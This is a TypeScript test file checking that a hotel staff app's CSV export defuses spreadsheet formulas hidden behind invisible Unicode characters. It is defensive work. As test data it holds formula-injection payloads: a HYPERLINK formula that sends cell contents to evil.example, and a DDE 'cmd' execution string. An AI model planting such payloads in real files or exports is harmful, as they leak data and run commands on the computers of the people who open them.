// A CSV cell that starts with invisible characters before = + - @ is defused like one that starts
// with them. Only ASCII spaces, tabs and line breaks before a formula were: a zero-width space, a
// BOM, a no-break or thin space, a bidi mark put before "=HYPERLINK(…)" let it through, and an
// importer that trims Unicode spaces or drops format characters (Google Sheets' and LibreOffice's
// trimming, a clean-up macro) runs it. Names and hotel names reach the exports.

import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../src/staff/routes/api.ts';
import type { TestApp } from '../helpers/app.ts';
import { bearer, fillWithCalls, startStaffApp } from '../staff/staff-helpers.ts';

const INVISIBLE = {
  'zero-width space': '\u200B',
  BOM: '\uFEFF',
  'no-break space': '\u00A0',
  'narrow no-break space': '\u202F',
  'figure space': '\u2007',
  'em space': '\u2003',
  'ideographic space': '\u3000',
  'word joiner': '\u2060',
  'zero-width joiner': '\u200D',
  'left-to-right mark': '\u200E',
  'right-to-left override': '\u202E',
  'pop directional isolate': '\u2069',
  'soft hyphen': '\u00AD',
  'Mongolian vowel separator': '\u180E',
  'Hangul filler': '\u3164',
  'line separator': '\u2028',
  'next line': '\u0085',
  'ogham space': '\u1680',
  'two of them': '\u00A0\u200B',
};
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', '+SUM(1,2)', '-1+cmd|" /C calc"!A0', '@SUM(1)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '﹦1+1', '﹢1', '−1+1'];

/** The cell as a spreadsheet reads it: its CSV quoting undone. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell);

describe('CSV cells that start with an invisible character', () => {
  it.each(Object.entries(INVISIBLE))('defuses a formula after an invisible start: %s', (_name, lead) => {
    for (const formula of FORMULAS) {
      expect(unquoted(csvCell(`${lead}${formula}`)), JSON.stringify(lead + formula)).toBe(`'${lead}${formula}`);
    }
  });

  it('leaves what cannot run as it is', () => {
    for (const plain of ['Ana Torres', '\u200BAna', '\u00A0+12125550123', '\uFEFF-42', 'José\u00A0=', '+12125550123', '-42', '', 'Hotel Miramar']) {
      expect(unquoted(csvCell(plain)), JSON.stringify(plain)).toBe(plain);
    }
  });
});

describe('the calls export with a name that starts invisibly', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startStaffApp();
    await fillWithCalls(t);
  }, 60_000);
  afterAll(async () => t.close());

  it('writes the name with its formula defused', async () => {
    const name = '\u200B\u00A0=HYPERLINK("http://evil.example","Ana")';
    await t.db.run('UPDATE reservations SET guest_name = ?', [name]);
    const csv = (await request(t.baseUrl).get('/api/calls.csv').set('Authorization', `Bearer ${await bearer(t)}`).expect(200)).text;
    const line = csv.split('\r\n').find((l) => l.includes('evil.example'))!;
    expect(line).toContain(`"'${name.replace(/"/g, '""')}"`);
  });
});
